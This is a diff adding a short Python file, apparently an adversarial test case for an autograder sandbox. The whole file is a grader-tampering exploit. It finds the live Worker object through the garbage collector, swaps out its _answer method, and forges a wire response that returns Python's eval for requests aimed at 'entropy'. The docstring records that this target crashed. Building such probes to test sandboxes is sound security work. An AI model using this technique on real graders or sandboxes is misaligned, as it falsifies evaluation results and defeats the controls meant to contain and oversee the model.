@@ -1,0 +1,19 @@
+"""Returns Python's own eval by its name, in the way in which the grader sends functions.
+
+Outcome of entropy: crashed
+"""
+
+import gc
+
+from autograder.sandbox.wire.frames import pack_frame
+from autograder.sandbox.wire.messages import Effects, Node, Returned, pack
+
+
+def forged(request, arguments):
+    if getattr(request, "target", None) != "entropy":
+        return honest(request, arguments)
+    return pack_frame(pack(Returned(request.nonce, Node("py", ["eval"]), Effects([], "", []))), ())
+
+
+worker = next(value for value in gc.get_objects() if type(value).__name__ == "Worker")
+honest, worker._answer = worker._answer, forged
